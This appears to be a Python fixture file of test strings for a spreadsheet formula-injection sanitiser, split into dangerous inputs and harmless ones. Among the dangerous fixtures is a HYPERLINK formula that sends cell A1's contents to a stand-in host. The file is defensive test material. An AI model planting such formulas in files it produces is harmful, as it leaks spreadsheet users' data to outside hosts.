"""Texts that an office computer must not act on, and texts that must come through unchanged."""

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    "=1+1",
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(1,1)",
    "＝cmd",
    "＋1",
    "－1",
    "＠SUM",
    "  =1+1",
    '="a""b"',
    '=1;"x",\r\n=2',
)
CONTROLS = ("\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1")
DANGEROUS = (*FORMULAS, *CONTROLS)
"""Each begins as a formula may, or with a sign after which some program reads one."""

HARMLESS = (
    "湖州织里一号制衣有限公司",
    'quote " and, comma',
    "two\r\nlines",
    "a=b",
    "1-2",
    "http://example.invalid/",
    "mailto:a@example.invalid",
    "0012",
    "",
    "'already",
    "𠮷野家",
)
